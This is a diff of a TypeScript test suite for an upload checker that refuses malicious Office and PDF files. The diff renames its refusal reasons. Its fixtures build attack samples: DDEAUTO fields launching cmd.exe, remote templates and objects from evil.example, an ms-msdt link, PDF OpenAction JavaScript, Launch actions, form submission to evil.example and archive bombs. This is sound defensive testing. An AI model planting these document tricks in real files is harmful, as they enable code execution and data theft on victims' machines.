@@ -16,19 +16,19 @@ import {
 } from '../../../test/support/fixtures/files.ts';
 import { addShopper, type Shopper } from '../../../test/support/fixtures/fixtures.ts';
 import { openTestShop, type TestShop } from '../../../test/support/shop/app.ts';
-import type { Refused } from '../../lib/outcome.ts';
+import type { Refusal } from '../../lib/outcome.ts';
 import { buildRefusalBody } from '../../messages/sentences.ts';
 import {
-  BROKEN,
-  DOCUMENT_TYPE,
-  HIDDEN_PARTS,
-  INFLATES,
-  LOADS_PARTS,
-  LOCKED,
-  OTHER_PARTS,
-  PROGRAMS,
-  SCRIPTS,
-  UNKNOWN_KIND,
+  CANNOT_BE_CHECKED,
+  FILE_IS_BROKEN,
+  HAS_DOCUMENT_TYPE,
+  HAS_FORBIDDEN_PARTS,
+  HAS_HIDDEN_PARTS,
+  HAS_PROGRAMS,
+  HAS_SCRIPTS,
+  KIND_IS_UNKNOWN,
+  LOADS_OTHER_PARTS,
+  UNPACKS_TOO_LARGE,
 } from './refusals.ts';
 
 let shop: TestShop;
@@ -148,13 +148,13 @@ const createDocx = (...context: Part[]) => createOfficeFile('docx', ...context);
 const createXlsx = (...context: Part[]) => createOfficeFile('xlsx', ...context);
 const createProgram = (head: string) => Buffer.concat([Buffer.from(head, 'latin1'), Buffer.alloc(200)]);
 
-const OFFICE: [string, Refused, () => Buffer][] = [
-  ['a macro', PROGRAMS, () => createOfficeFile('xlsm', { name: 'xl/vbaProject.bin', body: OLE_HEAD })],
-  ['a macro in a file that claims to have none', PROGRAMS, () => createXlsx({ name: 'xl/vbaProject.bin', body: OLE_HEAD })],
-  ['a macro under the name of a sheet', PROGRAMS, () => createOfficeFile('xlsm', { name: 'xl/worksheets/sheet1.xml', body: OLE_HEAD })],
+const OFFICE: [string, Refusal, () => Buffer][] = [
+  ['a macro', HAS_PROGRAMS, () => createOfficeFile('xlsm', { name: 'xl/vbaProject.bin', body: OLE_HEAD })],
+  ['a macro in a file that claims to have none', HAS_PROGRAMS, () => createXlsx({ name: 'xl/vbaProject.bin', body: OLE_HEAD })],
+  ['a macro under the name of a sheet', HAS_PROGRAMS, () => createOfficeFile('xlsm', { name: 'xl/worksheets/sheet1.xml', body: OLE_HEAD })],
   [
     'a macro by the type of a harmless part',
-    PROGRAMS,
+    HAS_PROGRAMS,
     () =>
       createZip([
         createTypes(XLSM, '<Override PartName="/xl/Notes.xml" ContentType="application/vnd.ms-office.vbaProject"/>'),
@@ -164,7 +164,7 @@ const OFFICE: [string, Refused, () => Buffer][] = [
   ],
   [
     'a macro sheet of Excel 4',
-    PROGRAMS,
+    HAS_PROGRAMS,
     () =>
       createZip([
         createTypes(XLSM, '<Override PartName="/xl/macrosheets/sheet1.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>'),
@@ -174,93 +174,117 @@ const OFFICE: [string, Refused, () => Buffer][] = [
   ],
   [
     'a macro by its relation',
-    PROGRAMS,
+    HAS_PROGRAMS,
     () =>
       createXlsx(
         createRelation('http://schemas.microsoft.com/office/2006/relationships/vbaProject', 'a.xml', '', 'xl/_rels/workbook.xml.rels'),
       ),
   ],
-  ['a control', PROGRAMS, () => createXlsx({ name: 'xl/activeX/activeX1.bin', body: 'a' })],
-  ['a control by its relation', PROGRAMS, () => createDocx(createRelation('control', 'activeX/activeX1.xml'))],
-  ['an embedded object', PROGRAMS, () => createDocx({ name: 'word/embeddings/oleObject1.bin', body: OLE_HEAD })],
-  ['an embedded object by its relation', PROGRAMS, () => createDocx(createRelation('oleObject', 'media/a.xml'))],
-  ['an embedded workbook', PROGRAMS, () => createDocx({ name: 'word/embeddings/Sheet1.xlsx', body: createOfficeFile('xlsx') })],
-  ['a program', PROGRAMS, () => createDocx({ name: 'word/evil.exe', body: createProgram('MZ') })],
+  ['a control', HAS_PROGRAMS, () => createXlsx({ name: 'xl/activeX/activeX1.bin', body: 'a' })],
+  ['a control by its relation', HAS_PROGRAMS, () => createDocx(createRelation('control', 'activeX/activeX1.xml'))],
+  ['an embedded object', HAS_PROGRAMS, () => createDocx({ name: 'word/embeddings/oleObject1.bin', body: OLE_HEAD })],
+  ['an embedded object by its relation', HAS_PROGRAMS, () => createDocx(createRelation('oleObject', 'media/a.xml'))],
+  ['an embedded workbook', HAS_PROGRAMS, () => createDocx({ name: 'word/embeddings/Sheet1.xlsx', body: createOfficeFile('xlsx') })],
+  ['a program', HAS_PROGRAMS, () => createDocx({ name: 'word/evil.exe', body: createProgram('MZ') })],
   [
     'a program of Linux that is called a picture',
-    PROGRAMS,
+    HAS_PROGRAMS,
     () => createDocx({ name: 'word/media/image1.png', body: createProgram('\x7fELF') }),
   ],
   [
     'a program that is called printer settings',
-    PROGRAMS,
+    HAS_PROGRAMS,
     () => createXlsx({ name: 'xl/printerSettings/printerSettings1.bin', body: createProgram('MZ') }),
   ],
-  ['a program that is called XML', PROGRAMS, () => createDocx({ name: 'word/a.xml', body: createProgram('MZ') })],
+  ['a program that is called XML', HAS_PROGRAMS, () => createDocx({ name: 'word/a.xml', body: createProgram('MZ') })],
   [
     'an archive that is called a picture',
-    PROGRAMS,
+    HAS_PROGRAMS,
     () => createDocx({ name: 'word/media/image1.jpeg', body: createZip([{ name: 'a', body: 'a' }]) }),
   ],
-  ['a font', OTHER_PARTS, () => createDocx({ name: 'word/fonts/font1.odttf', body: 'font' })],
+  ['a font', HAS_FORBIDDEN_PARTS, () => createDocx({ name: 'word/fonts/font1.odttf', body: 'font' })],
   [
     'a macro by the type of a part that is nowhere',
-    PROGRAMS,
+    HAS_PROGRAMS,
     () => createZip([createTypes(XLSM, '<Override PartName="/xl/a%2exml" ContentType="application/vnd.ms-office.vbaProject"/>'), workbook]),
   ],
-  ['a script', PROGRAMS, () => createDocx({ name: 'word/run.vbs', body: 'MsgBox 1' })],
-  ['a page', PROGRAMS, () => createDocx({ name: 'word/afchunk.html', body: '<html/>' })],
-  ['a field that starts a program', PROGRAMS, () => createDocx(createField(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" '))],
+  ['a script', HAS_PROGRAMS, () => createDocx({ name: 'word/run.vbs', body: 'MsgBox 1' })],
+  ['a page', HAS_PROGRAMS, () => createDocx({ name: 'word/afchunk.html', body: '<html/>' })],
+  [
+    'a field that starts a program',
+    HAS_PROGRAMS,
+    () => createDocx(createField(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ')),
+  ],
   [
     'a field that starts a program, in pieces and character codes',
-    PROGRAMS,
+    HAS_PROGRAMS,
     () => createDocx(createField(' D', '&#68;E', '&#x41;UTO c:\\\\cmd.exe')),
   ],
   [
     'a field that starts a program, in the shorter form',
-    PROGRAMS,
+    HAS_PROGRAMS,
     () => createDocx({ name: 'word/header1.xml', body: `<w:fldSimple w:instr=" DDE cmd 'a' "/>` }),
   ],
   [
     'a template from elsewhere',
-    LOADS_PARTS,
+    LOADS_OTHER_PARTS,
     () => createDocx(createRelation('attachedTemplate', 'http://evil.example/a.dotm', 'External', 'word/_rels/settings.xml.rels')),
   ],
-  ['an object from elsewhere', PROGRAMS, () => createDocx(createRelation('oleObject', 'http://evil.example/a.html!', 'External'))],
-  ['a frame', LOADS_PARTS, () => createDocx(createRelation('frame', 'http://evil.example/', 'External'))],
-  ['another document as its part', LOADS_PARTS, () => createDocx(createRelation('subDocument', 'file://evil.example/a.docx', 'External'))],
-  ['a picture from elsewhere', LOADS_PARTS, () => createDocx(createRelation('image', 'file://evil.example/a.png', 'External'))],
-  ['a link to a file', LOADS_PARTS, () => createDocx(createRelation('hyperlink', 'file:///C:/Windows/System32/calc.exe', 'External'))],
-  ['a link that starts a program', LOADS_PARTS, () => createDocx(createRelation('hyperlink', 'ms-msdt:/id', 'External'))],
+  ['an object from elsewhere', HAS_PROGRAMS, () => createDocx(createRelation('oleObject', 'http://evil.example/a.html!', 'External'))],
+  ['a frame', LOADS_OTHER_PARTS, () => createDocx(createRelation('frame', 'http://evil.example/', 'External'))],
+  [
+    'another document as its part',
+    LOADS_OTHER_PARTS,
+    () => createDocx(createRelation('subDocument', 'file://evil.example/a.docx', 'External')),
+  ],
+  ['a picture from elsewhere', LOADS_OTHER_PARTS, () => createDocx(createRelation('image', 'file://evil.example/a.png', 'External'))],
+  [
+    'a link to a file',
+    LOADS_OTHER_PARTS,
+    () => createDocx(createRelation('hyperlink', 'file:///C:/Windows/System32/calc.exe', 'External')),
+  ],
+  ['a link that starts a program', LOADS_OTHER_PARTS, () => createDocx(createRelation('hyperlink', 'ms-msdt:/id', 'External'))],
   [
     'another workbook',
-    LOADS_PARTS,
+    LOADS_OTHER_PARTS,
     () => createXlsx(createRelation('externalLink', 'externalLinks/externalLink1.xml', '', 'xl/_rels/workbook.xml.rels')),
   ],
   [
     'a connection to a database',
-    LOADS_PARTS,
+    LOADS_OTHER_PARTS,
     () => createXlsx(createRelation('connections', 'connections.xml', '', 'xl/_rels/workbook.xml.rels')),
   ],
-  ['entities that multiply', DOCUMENT_TYPE, () => createDocx({ name: 'word/a.xml', body: '<!DOCTYPE a [<!ENTITY b "ha">]><a>&b;</a>' })],
-  ['two parts of one name', BROKEN, () => createDocx({ name: 'word/a.xml', body: '<a/>' }, { name: 'word/A.xml', body: '<b/>' })],
-  ['a part of eleven megabytes', INFLATES, () => createDocx({ name: 'word/a.xml', body: Buffer.alloc(11 * 1024 * 1024, '<a/>') })],
+  [
+    'entities that multiply',
+    HAS_DOCUMENT_TYPE,
+    () => createDocx({ name: 'word/a.xml', body: '<!DOCTYPE a [<!ENTITY b "ha">]><a>&b;</a>' }),
+  ],
+  ['two parts of one name', FILE_IS_BROKEN, () => createDocx({ name: 'word/a.xml', body: '<a/>' }, { name: 'word/A.xml', body: '<b/>' })],
+  ['a part of eleven megabytes', UNPACKS_TOO_LARGE, () => createDocx({ name: 'word/a.xml', body: Buffer.alloc(11 * 1024 * 1024, '<a/>') })],
   [
     'parts of 99 megabytes together',
-    INFLATES,
+    UNPACKS_TOO_LARGE,
     () => createDocx(...Array.from({ length: 11 }, (_, at) => ({ name: `word/${at}.xml`, body: Buffer.alloc(9 * 1024 * 1024, '<a/>') }))),
   ],
-  ['a part that is packed to a thousandth', INFLATES, () => createDocx({ name: 'word/a.xml', body: `<a>${' '.repeat(3_000_000)}</a>` })],
-  ['a part larger than its declared size', BROKEN, () => createDocx({ name: 'word/a.xml', body: '<a>and more</a>', claims: { bytes: 4 } })],
-  ['a part smaller than its declared size', BROKEN, () => createDocx({ name: 'word/a.xml', body: '<a/>', claims: { bytes: 400 } })],
-  ['bytes between its parts', BROKEN, () => createDocx({ name: 'word/a.xml', body: '<a/>', before: createProgram('MZ') })],
+  [
+    'a part that is packed to a thousandth',
+    UNPACKS_TOO_LARGE,
+    () => createDocx({ name: 'word/a.xml', body: `<a>${' '.repeat(3_000_000)}</a>` }),
+  ],
+  [
+    'a part larger than its declared size',
+    FILE_IS_BROKEN,
+    () => createDocx({ name: 'word/a.xml', body: '<a>and more</a>', claims: { bytes: 4 } }),
+  ],
+  ['a part smaller than its declared size', FILE_IS_BROKEN, () => createDocx({ name: 'word/a.xml', body: '<a/>', claims: { bytes: 400 } })],
+  ['bytes between its parts', FILE_IS_BROKEN, () => createDocx({ name: 'word/a.xml', body: '<a/>', before: createProgram('MZ') })],
   [
     'different names in the directory and at the part',
-    BROKEN,
+    FILE_IS_BROKEN,
     () => createDocx({ name: 'word/a.xml', body: '<a/>', localName: 'word/b.exe' }),
   ],
-  ['a part that was changed on the way', BROKEN, () => createDocx({ name: 'word/a.xml', body: '<a/>', claims: { crc: 7 } })],
-  ['nothing of Word in it', UNKNOWN_KIND, () => createZip([createContentTypes('xlsx'), { name: 'word/document.xml', body: '<a/>' }])],
+  ['a part that was changed on the way', FILE_IS_BROKEN, () => createDocx({ name: 'word/a.xml', body: '<a/>', claims: { crc: 7 } })],
+  ['nothing of Word in it', KIND_IS_UNKNOWN, () => createZip([createContentTypes('xlsx'), { name: 'word/document.xml', body: '<a/>' }])],
 ];
 
 const OLD: [string, string[]][] = [
@@ -274,83 +298,99 @@ const OLD: [string, string[]][] = [
 const createCatalog = (more: string) => createPdf(`<</Type/Catalog${more}>>`);
 const SCRIPT = '<</S/JavaScript/JS(app.alert\\(1\\))>>';
 const createPackedPdf = (...heads: string[]) => createPdf('<</Type/Catalog>>', createObjectStream(9, '<</Type/Page>>', heads.join('')));
-const PDFS: [string, Refused, () => Buffer][] = [
-  ['a script', SCRIPTS, () => createCatalog(`/OpenAction${SCRIPT}`)],
-  ['a script in a comment field', SCRIPTS, () => createPdf('<</Type/Catalog>>', `<</Type/Annot/A${SCRIPT}>>`)],
-  ['a script in codes', SCRIPTS, () => createCatalog('/A<</S/J#61va#53cript/J#53(a)>>')],
-  ['a script in packed objects', SCRIPTS, () => createPdf('<</Type/Catalog>>', createObjectStream(9, SCRIPT))],
+const PDFS: [string, Refusal, () => Buffer][] = [
+  ['a script', HAS_SCRIPTS, () => createCatalog(`/OpenAction${SCRIPT}`)],
+  ['a script in a comment field', HAS_SCRIPTS, () => createPdf('<</Type/Catalog>>', `<</Type/Annot/A${SCRIPT}>>`)],
+  ['a script in codes', HAS_SCRIPTS, () => createCatalog('/A<</S/J#61va#53cript/J#53(a)>>')],
+  ['a script in packed objects', HAS_SCRIPTS, () => createPdf('<</Type/Catalog>>', createObjectStream(9, SCRIPT))],
   [
     'a script in objects that are not packed',
-    SCRIPTS,
+    HAS_SCRIPTS,
     () => createPdf('<</Type/Catalog>>', createPdfStream('/Type/ObjStm/N 1/First 4', `9 0 ${SCRIPT}`, Buffer.from(`9 0 ${SCRIPT}`))),
   ],
   [
     'a script in packed objects called so in codes',
-    SCRIPTS,
+    HAS_SCRIPTS,
     () => createPdf('<</Type/Catalog>>', createObjectStream(9, SCRIPT, '/Type/Obj#53tm/N 1/Filter/#46lateDecode')),
   ],
   [
     'a script in packed objects not called so',
-    SCRIPTS,
+    HAS_SCRIPTS,
     () => createPdf('<</Type/Catalog>>', createObjectStream(9, SCRIPT, '/N 1/Filter[/FlateDecode]')),
   ],
   [
     'a script in packed objects behind a comment',
-    SCRIPTS,
+    HAS_SCRIPTS,
     () => createPdf('<</Type/Catalog>>', Buffer.concat([Buffer.from('%<<\n'), createObjectStream(9, SCRIPT)])),
   ],
   [
     'a script in packed objects within another stream',
-    SCRIPTS,
+    HAS_SCRIPTS,
     () =>
       createPdf(
         '<</Type/Catalog>>',
         Buffer.concat([Buffer.from('<</Length 9>>stream\n5 0 obj'), createObjectStream(9, SCRIPT), Buffer.from('\nendobj endstream')]),
       ),
   ],
-  ['a program to start', SCRIPTS, () => createCatalog('/OpenAction<</S/Launch/F(cmd.exe)>>')],
-  ['an attached file', SCRIPTS, () => createCatalog('/Names<</EmbeddedFiles<</Names[(a.exe)<</EF<</F 2 0 R>>>>]>>>>')],
-  ['an attached file without its list', SCRIPTS, () => createPdf('<</Type/Catalog>>', '<</F(a)/EF <</F 3 0 R>>>>')],
-  ['a film or a game', SCRIPTS, () => createPdf('<</Type/Catalog>>', '<</Subtype/RichMedia>>')],
-  ['a form of the kind that has scripts', SCRIPTS, () => createCatalog('/AcroForm<</XFA[(template)5 0 R]>>')],
-  ['actions that begin by themselves', SCRIPTS, () => createCatalog('/AA<</WC<</S/Named/N/Print>>>>')],
-  ['such actions in packed objects', SCRIPTS, () => createPdf('<</Type/Catalog>>', createObjectStream(9, '<</Type/Page/AA<</O 3 0 R>>>>'))],
-  ['a form that sends itself', SCRIPTS, () => createPdf('<</Type/Catalog>>', '<</S/SubmitForm/F(http://evil.example)>>')],
-  ['a form that fills itself', SCRIPTS, () => createPdf('<</Type/Catalog>>', '<</S/ImportData/F(a)>>')],
-  ['a way into another file', SCRIPTS, () => createPdf('<</Type/Catalog>>', '<</S/GoToR/F(\\\\\\\\evil.example\\\\a)>>')],
-  ['a way into an attached file', SCRIPTS, () => createPdf('<</Type/Catalog>>', '<</S/GoToE/T<<>>>>')],
-  ['a page of the web that opens by itself', SCRIPTS, () => createCatalog('/OpenAction<</S/URI/URI(http://evil.example)>>')],
-  ['such a page written elsewhere', SCRIPTS, () => createPdf('<</Type/Catalog/OpenAction 2 0 R>>', '<</S/URI/URI(http://evil.example)>>')],
+  ['a program to start', HAS_SCRIPTS, () => createCatalog('/OpenAction<</S/Launch/F(cmd.exe)>>')],
+  ['an attached file', HAS_SCRIPTS, () => createCatalog('/Names<</EmbeddedFiles<</Names[(a.exe)<</EF<</F 2 0 R>>>>]>>>>')],
+  ['an attached file without its list', HAS_SCRIPTS, () => createPdf('<</Type/Catalog>>', '<</F(a)/EF <</F 3 0 R>>>>')],
+  ['a film or a game', HAS_SCRIPTS, () => createPdf('<</Type/Catalog>>', '<</Subtype/RichMedia>>')],
+  ['a form of the kind that has scripts', HAS_SCRIPTS, () => createCatalog('/AcroForm<</XFA[(template)5 0 R]>>')],
+  ['actions that begin by themselves', HAS_SCRIPTS, () => createCatalog('/AA<</WC<</S/Named/N/Print>>>>')],
+  [
+    'such actions in packed objects',
+    HAS_SCRIPTS,
+    () => createPdf('<</Type/Catalog>>', createObjectStream(9, '<</Type/Page/AA<</O 3 0 R>>>>')),
+  ],
+  ['a form that sends itself', HAS_SCRIPTS, () => createPdf('<</Type/Catalog>>', '<</S/SubmitForm/F(http://evil.example)>>')],
+  ['a form that fills itself', HAS_SCRIPTS, () => createPdf('<</Type/Catalog>>', '<</S/ImportData/F(a)>>')],
+  ['a way into another file', HAS_SCRIPTS, () => createPdf('<</Type/Catalog>>', '<</S/GoToR/F(\\\\\\\\evil.example\\\\a)>>')],
+  ['a way into an attached file', HAS_SCRIPTS, () => createPdf('<</Type/Catalog>>', '<</S/GoToE/T<<>>>>')],
+  ['a page of the web that opens by itself', HAS_SCRIPTS, () => createCatalog('/OpenAction<</S/URI/URI(http://evil.example)>>')],
+  [
+    'such a page written elsewhere',
+    HAS_SCRIPTS,
+    () => createPdf('<</Type/Catalog/OpenAction 2 0 R>>', '<</S/URI/URI(http://evil.example)>>'),
+  ],
   [
     'such a page in packed objects',
-    SCRIPTS,
+    HAS_SCRIPTS,
     () => createPdf('<</Type/Catalog/OpenAction 9 0 R>>', createObjectStream(9, '<</S/URI/URI(http://evil.example)>>')),
   ],
-  ['an action that is nowhere', SCRIPTS, () => createCatalog('/OpenAction 77 0 R')],
-  ['a password', LOCKED, () => Buffer.from(PDF.toString().replace('/Root', '/Encrypt 5 0 R/Root'))],
-  ['objects packed in another way', LOCKED, () => createPackedPdf('/Type/ObjStm/N 1/Filter/LZWDecode')],
-  ['objects packed twice', LOCKED, () => createPackedPdf('/Type/ObjStm/N 1/Filter[/FlateDecode/FlateDecode]')],
-  ['packed objects whose filter is an indirect object', LOCKED, () => createPackedPdf('/Type/ObjStm/N 1/Filter 5 0 R')],
-  ['objects packed with a predictor', LOCKED, () => createPackedPdf('/Type/ObjStm/N 1/Filter/FlateDecode/DecodeParms<</Predictor 12>>')],
-  ['objects in another file', LOCKED, () => createPackedPdf('/Type/ObjStm/N 1/F(a)/Filter/FlateDecode')],
+  ['an action that is nowhere', HAS_SCRIPTS, () => createCatalog('/OpenAction 77 0 R')],
+  ['a password', CANNOT_BE_CHECKED, () => Buffer.from(PDF.toString().replace('/Root', '/Encrypt 5 0 R/Root'))],
+  ['objects packed in another way', CANNOT_BE_CHECKED, () => createPackedPdf('/Type/ObjStm/N 1/Filter/LZWDecode')],
+  ['objects packed twice', CANNOT_BE_CHECKED, () => createPackedPdf('/Type/ObjStm/N 1/Filter[/FlateDecode/FlateDecode]')],
+  ['packed objects whose filter is an indirect object', CANNOT_BE_CHECKED, () => createPackedPdf('/Type/ObjStm/N 1/Filter 5 0 R')],
+  [
+    'objects packed with a predictor',
+    CANNOT_BE_CHECKED,
+    () => createPackedPdf('/Type/ObjStm/N 1/Filter/FlateDecode/DecodeParms<</Predictor 12>>'),
+  ],
+  ['objects in another file', CANNOT_BE_CHECKED, () => createPackedPdf('/Type/ObjStm/N 1/F(a)/Filter/FlateDecode')],
   [
     'packed objects that are damaged',
-    BROKEN,
+    FILE_IS_BROKEN,
     () => createPdf('<</Type/Catalog>>', createPdfStream('/Type/ObjStm/N 1/First 4/Filter/FlateDecode', '', Buffer.from('none'))),
   ],
-  ['packed objects of 50 megabytes', INFLATES, () => createPdf('<</Type/Catalog>>', createObjectStream(9, ' '.repeat(50_000_000)))],
-  ['a dictionary that does not end', BROKEN, () => Buffer.from('%PDF-1.4\n1 0 obj<</A(\n%%EOF')],
-  ['a stream that does not end', BROKEN, () => Buffer.from('%PDF-1.4\n1 0 obj<</Length 5>>stream\nabcde\n%%EOF')],
-  ['an archive behind it', HIDDEN_PARTS, () => Buffer.concat([PDF, createZip([{ name: 'a', body: 'x'.repeat(500) }])])],
+  [
+    'packed objects of 50 megabytes',
+    UNPACKS_TOO_LARGE,
+    () => createPdf('<</Type/Catalog>>', createObjectStream(9, ' '.repeat(50_000_000))),
+  ],
+  ['a dictionary that does not end', FILE_IS_BROKEN, () => Buffer.from('%PDF-1.4\n1 0 obj<</A(\n%%EOF')],
+  ['a stream that does not end', FILE_IS_BROKEN, () => Buffer.from('%PDF-1.4\n1 0 obj<</Length 5>>stream\nabcde\n%%EOF')],
+  ['an archive behind it', HAS_HIDDEN_PARTS, () => Buffer.concat([PDF, createZip([{ name: 'a', body: 'x'.repeat(500) }])])],
 ];
 
 describe('the shop refuses, with a reason,', () => {
-  const expectRefused = async (bytes: Buffer, refused: Refused) => {
+  const expectRefused = async (bytes: Buffer, refused: Refusal) => {
     expect((await send(bytes)).body).toEqual(buildRefusalBody(refused));
     expect(await listFiles()).toEqual([]);
   };
 
   test.each(OFFICE)('an Office file with %s', async (_, why, createFile) => expectRefused(createFile(), why));
-  test.each(OLD)('an old Word file with %s', async (_, streams) => expectRefused(createOleFile('Root Entry', ...streams), PROGRAMS));
+  test.each(OLD)('an old Word file with %s', async (_, streams) => expectRefused(createOleFile('Root Entry', ...streams), HAS_PROGRAMS));
   test.each(PDFS)('a PDF with %s', async (_, why, createFile) => expectRefused(createFile(), why));
 });
